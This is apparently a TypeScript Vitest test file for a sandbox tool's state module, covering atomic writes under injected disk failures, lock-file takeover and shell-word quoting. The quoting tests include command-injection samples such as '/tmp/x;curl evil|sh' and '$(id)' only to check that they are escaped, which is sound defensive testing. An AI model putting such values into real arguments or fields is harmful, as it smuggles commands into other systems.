// src/state: home resolution, durable atomic writes (the old file survives any failure before
// the rename), unique temp names, and lock files that are taken over only when their holder is
// gone, a reused pid included.
import { spawn, spawnSync } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import type * as NodeFs from 'node:fs';
import type * as NodeFsPromises from 'node:fs/promises';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

// Failure injection: the state module's own fs calls fail on demand (ENOSPC, EIO, EXDEV).
const fail = vi.hoisted(() => ({ at: null as null | 'write' | 'fsync' | 'rename' | 'async-sync' }));
vi.mock('node:fs', async (importOriginal) => {
  const fs = await importOriginal<typeof NodeFs>();
  const err = (code: string): Error => Object.assign(new Error(`${code}: injected`), { code });
  return {
    ...fs,
    writeSync: (fd: number, buf: Uint8Array, off?: number, len?: number) => {
      if (fail.at === 'write') {
        // Half the data lands, then the disk is full.
        fs.writeSync(fd, buf, off ?? 0, Math.floor((len ?? buf.length) / 2));
        throw err('ENOSPC');
      }
      return fs.writeSync(fd, buf, off, len);
    },
    fsyncSync: (fd: number) => {
      if (fail.at === 'fsync') throw err('EIO');
      return fs.fsyncSync(fd);
    },
    renameSync: (a: string, b: string) => {
      if (fail.at === 'rename') throw err('EXDEV');
      return fs.renameSync(a, b);
    },
  };
});
vi.mock('node:fs/promises', async (importOriginal) => {
  const fsp = await importOriginal<typeof NodeFsPromises>();
  return {
    ...fsp,
    open: async (...args: Parameters<typeof fsp.open>) => {
      const fh = await fsp.open(...args);
      const sync = fh.sync.bind(fh);
      fh.sync = async () => {
        if (fail.at === 'async-sync') throw Object.assign(new Error('EIO: injected'), { code: 'EIO' });
        return sync();
      };
      return fh;
    },
  };
});

const state = await import('../../src/state/index.ts');
const { nemoclawHome, HomeError, homePaths, sandboxPaths, validName, writeFileAtomic, writeFileAtomicAsync, createFileExclusive, tempPath, removeDeadTemps, tryLock, releaseLock, readLockHolder, processStartTime, pidAlive, shellWord, shellWords } = state;

const root = mkdtempSync(join(tmpdir(), 'nemoclaw-state-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;
const freshDir = (): string => {
  const d = join(root, String(n++));
  mkdirSync(d);
  return d;
};
afterEach(() => {
  fail.at = null;
});

/** A pid that certainly no longer runs: a child that already exited. */
function deadPid(): number {
  return Number(spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))']).stdout.toString());
}

describe('nemoclawHome', () => {
  it('uses NEMOCLAW_HOME when it is an absolute path', () => {
    expect(nemoclawHome({ NEMOCLAW_HOME: '/srv/nc' })).toBe('/srv/nc');
  });

  it('treats an empty NEMOCLAW_HOME as unset (never the relative path ".nemoclaw")', () => {
    expect(nemoclawHome({ NEMOCLAW_HOME: '' })).toBe(nemoclawHome({}));
    expect(nemoclawHome({}).startsWith('/')).toBe(true);
    expect(nemoclawHome({}).endsWith('/.nemoclaw')).toBe(true);
  });

  it('refuses a relative NEMOCLAW_HOME', () => {
    expect(() => nemoclawHome({ NEMOCLAW_HOME: 'state' })).toThrow(HomeError);
    expect(() => nemoclawHome({ NEMOCLAW_HOME: './state' })).toThrow(/must be an absolute path/);
  });
});

describe('layout and names', () => {
  it('puts every sandbox under sandboxes/ and refuses names that leave it', () => {
    const p = homePaths('/h');
    expect(p).toMatchObject({ lock: '/h/run/supervisor.lock', api: '/h/run/api.sock', approvals: '/h/run/approvals.sock', sandboxes: '/h/sandboxes', audit: '/h/audit', config: '/h/config.json' });
    expect(sandboxPaths(p, 'web')).toMatchObject({ dir: '/h/sandboxes/web', spec: '/h/sandboxes/web/spec.json', policy: '/h/sandboxes/web/policy', output: '/h/sandboxes/web/logs/output.ndjson' });
    for (const bad of ['', '.', '..', '../etc', 'a/b']) expect(() => sandboxPaths(p, bad)).toThrow(/not a sandbox directory name/);
  });

  it('one name rule: lower-case, starts with a letter, at most 40, not a verb', () => {
    expect(validName('my-agent')).toBe(true);
    for (const bad of ['demo', 'policy', 'Bad', '-x', '1x', 'a_b', 'a.b', 'x'.repeat(41), '../etc']) expect(validName(bad)).toBe(false);
  });
});

describe('writeFileAtomic', () => {
  for (const at of ['write', 'fsync', 'rename'] as const) {
    it(`leaves the old file intact and no temp file when ${at} fails`, () => {
      const dir = freshDir();
      const f = join(dir, 'spec.json');
      writeFileAtomic(f, 'old\n');
      fail.at = at;
      expect(() => writeFileAtomic(f, 'new content that never lands\n')).toThrow(/injected/);
      fail.at = null;
      expect(readFileSync(f, 'utf8')).toBe('old\n');
      expect(readdirSync(dir)).toEqual(['spec.json']);
    });
  }

  it('the async writer also leaves the old file intact when its fsync fails', async () => {
    const dir = freshDir();
    const f = join(dir, '0001.yaml');
    await writeFileAtomicAsync(f, 'old\n');
    fail.at = 'async-sync';
    await expect(writeFileAtomicAsync(f, 'new\n')).rejects.toThrow(/injected/);
    fail.at = null;
    expect(readFileSync(f, 'utf8')).toBe('old\n');
    expect(readdirSync(dir)).toEqual(['0001.yaml']);
  });

  it('replaces the content with the exact mode, whatever the umask', async () => {
    const dir = freshDir();
    const f = join(dir, 'bundle.pem');
    const old = process.umask(0o077);
    try {
      writeFileAtomic(f, 'a', 0o644);
      expect(statSync(f).mode & 0o777).toBe(0o644);
      await writeFileAtomicAsync(f, 'b', 0o640);
      expect(statSync(f).mode & 0o777).toBe(0o640);
    } finally {
      process.umask(old);
    }
    expect(readFileSync(f, 'utf8')).toBe('b');
  });

  it('temp names are unique, and concurrent writers of one file never share one', async () => {
    const names = new Set(Array.from({ length: 2000 }, () => tempPath('/h/x.json')));
    expect(names.size).toBe(2000);
    for (const t of names) expect(t).toMatch(new RegExp(`^/h/x\\.json\\.tmp-${process.pid}-[0-9a-f]{12}$`));
    const dir = freshDir();
    const f = join(dir, 'state.json');
    const values = Array.from({ length: 20 }, (_, i) => `writer ${i}\n`);
    await Promise.all(values.map((v) => writeFileAtomicAsync(f, v)));
    expect(values).toContain(readFileSync(f, 'utf8'));
    expect(readdirSync(dir)).toEqual(['state.json']);
  });

  it('removeDeadTemps removes only temp files of writers that no longer run', () => {
    const dir = freshDir();
    const dead = join(dir, `x.json.tmp-${deadPid()}-0123456789ab`);
    const live = join(dir, `x.json.tmp-${process.pid}-0123456789ab`);
    writeFileSync(dead, '');
    writeFileSync(live, '');
    writeFileSync(join(dir, 'x.json'), '{}');
    removeDeadTemps(dir);
    expect(readdirSync(dir).sort()).toEqual([`x.json`, `x.json.tmp-${process.pid}-0123456789ab`]);
  });
});

describe('createFileExclusive', () => {
  it('creates once with the whole content, then reports EEXIST as false', () => {
    const dir = freshDir();
    const f = join(dir, 'fingerprint.key');
    expect(createFileExclusive(f, 'first')).toBe(true);
    expect(createFileExclusive(f, 'second')).toBe(false);
    expect(readFileSync(f, 'utf8')).toBe('first');
    expect(readdirSync(dir)).toEqual(['fingerprint.key']);
  });
});

describe('lock files', () => {
  const children: ChildProcess[] = [];
  afterAll(() => {
    for (const c of children) c.kill('SIGKILL');
  });
  /** Another live process (its pid and start time are not ours). */
  async function liveOther(): Promise<number> {
    const c = spawn('sleep', ['60'], { stdio: 'ignore' });
    children.push(c);
    await new Promise((r) => c.once('spawn', r));
    return c.pid as number;
  }
  let dir: string;
  let lock: string;
  beforeEach(() => {
    dir = freshDir();
    lock = join(dir, 'LOCK');
  });

  it('records pid and start time, and is released only by its holder', () => {
    expect(tryLock(lock)).toEqual({ acquired: true, brokeStale: null });
    expect(readFileSync(lock, 'utf8')).toBe(`${process.pid} ${processStartTime(process.pid)}\n`);
    expect(readLockHolder(lock)).toEqual({ pid: process.pid, start: processStartTime(process.pid) });
    // Held by this process: a second taker in it waits like anyone else.
    expect(tryLock(lock)).toMatchObject({ acquired: false, holder: { pid: process.pid } });
    releaseLock(lock);
    expect(existsSync(lock)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('is not taken from a live holder', async () => {
    const pid = await liveOther();
    const start = processStartTime(pid);
    expect(start).not.toBeNull();
    writeFileSync(lock, `${pid} ${start}\n`);
    expect(tryLock(lock)).toEqual({ acquired: false, holder: { pid, start } });
    releaseLock(lock); // not ours: left alone
    expect(readFileSync(lock, 'utf8')).toBe(`${pid} ${start}\n`);
  });

  it('is taken over when the holder is gone', () => {
    const pid = deadPid();
    expect(pidAlive(pid)).toBe(false);
    writeFileSync(lock, `${pid} 12345\n`);
    expect(tryLock(lock)).toEqual({ acquired: true, brokeStale: { pid, start: '12345' } });
    expect(readLockHolder(lock)?.pid).toBe(process.pid);
    expect(readdirSync(dir)).toEqual(['LOCK']); // no .break, no temp file
  });

  it('is taken over when the pid now belongs to another process (pid reuse: start time differs)', async () => {
    const pid = await liveOther();
    expect(pidAlive(pid)).toBe(true);
    const recorded = String(Number(processStartTime(pid)) - 1);
    writeFileSync(lock, `${pid} ${recorded}\n`);
    expect(tryLock(lock)).toEqual({ acquired: true, brokeStale: { pid, start: recorded } });
    expect(readLockHolder(lock)?.pid).toBe(process.pid);
  });

  it('older formats without a start time count as held while the pid exists', async () => {
    const pid = await liveOther();
    writeFileSync(lock, `${pid}`);
    expect(tryLock(lock)).toMatchObject({ acquired: false, holder: { pid, start: null } });
    writeFileSync(lock, `${pid} 2026-01-01T00:00:00.000Z\n`);
    expect(tryLock(lock).acquired).toBe(false);
    writeFileSync(lock, `${deadPid()}`);
    expect(tryLock(lock).acquired).toBe(true);
  });

  it('a file without a pid is stale only once it is old (hand-written, not a lock of ours)', () => {
    writeFileSync(lock, 'junk');
    expect(tryLock(lock)).toEqual({ acquired: false, holder: null });
    const old = (Date.now() - 60_000) / 1000;
    utimesSync(lock, old, old);
    expect(tryLock(lock)).toEqual({ acquired: true, brokeStale: null });
  });

  it('waits while a live process is breaking the lock, and clears a dead breaker', async () => {
    writeFileSync(lock, `${deadPid()} 1\n`);
    const pid = await liveOther();
    writeFileSync(`${lock}.break`, `${pid} ${processStartTime(pid)}\n`);
    expect(tryLock(lock).acquired).toBe(false);
    writeFileSync(`${lock}.break`, `${deadPid()} 1\n`);
    expect(tryLock(lock).acquired).toBe(true);
    expect(readdirSync(dir)).toEqual(['LOCK']);
  });

  it('of processes racing for one stale lock, exactly one wins', async () => {
    writeFileSync(lock, `${deadPid()} 1\n`);
    const door = new URL('../../src/state/index.ts', import.meta.url).pathname;
    // Each racer loads the module, says so, waits for "go", tries once, reports, and keeps what it
    // took until its stdin closes (a racer that exited would leave a stale lock for the next).
    const script = [
      `import { tryLock } from ${JSON.stringify(door)};`,
      `process.stdout.write('ready\\n');`,
      `process.stdin.once('data', () => { process.stdout.write(String(tryLock(${JSON.stringify(lock)}).acquired) + '\\n'); process.stdin.resume(); });`,
    ].join('\n');
    const racers = Array.from({ length: 6 }, () => {
      const c = spawn(process.execPath, ['--disable-warning=ExperimentalWarning', '--input-type=module', '-e', script], { stdio: ['pipe', 'pipe', 'inherit'] });
      children.push(c);
      const lines: string[] = [];
      const waiters: Array<() => void> = [];
      c.stdout?.setEncoding('utf8').on('data', (d: string) => {
        lines.push(...d.split('\n').filter((l) => l !== ''));
        for (const w of waiters.splice(0)) w();
      });
      c.on('close', (code) => {
        lines.push(`exited ${code}`, `exited ${code}`);
        for (const w of waiters.splice(0)) w();
      });
      const line = async (i: number): Promise<string> => {
        while (lines.length <= i) await new Promise<void>((r) => waiters.push(r));
        return lines[i] as string;
      };
      return { c, line };
    });
    for (const r of racers) expect(await r.line(0)).toBe('ready');
    for (const r of racers) r.c.stdin?.write('go\n');
    const results = await Promise.all(racers.map((r) => r.line(1)));
    for (const r of racers) r.c.stdin?.end();
    expect(results.filter((r) => r === 'true')).toHaveLength(1);
    expect(results.filter((r) => r === 'false')).toHaveLength(5);
  });
});

describe('shellWord', () => {
  it('leaves safe words alone and single-quotes the rest', () => {
    expect(shellWord('/usr/bin/curl')).toBe('/usr/bin/curl');
    expect(shellWord('a=b,c:d@e+f')).toBe('a=b,c:d@e+f');
    expect(shellWord('')).toBe("''");
    expect(shellWord('/tmp/x;curl evil|sh')).toBe("'/tmp/x;curl evil|sh'");
    expect(shellWord("it's")).toBe(`'it'\\''s'`);
    expect(shellWord('$(id)')).toBe("'$(id)'");
    expect(shellWord('~root')).toBe("'~root'");
    expect(shellWord('50%')).toBe("'50%'");
    expect(shellWords(['sh', '-c', 'echo hi'])).toBe("sh -c 'echo hi'");
  });

  it('what it quotes comes back as one word, byte for byte', () => {
    for (const s of ["a b", "it's", '$(id)', '`x`', 'a\nb', '*', "'", "''", '\\', '"q"']) {
      const r = spawnSync('sh', ['-c', `printf %s ${shellWord(s)}`]);
      expect(r.stdout.toString()).toBe(s);
    }
  });
});
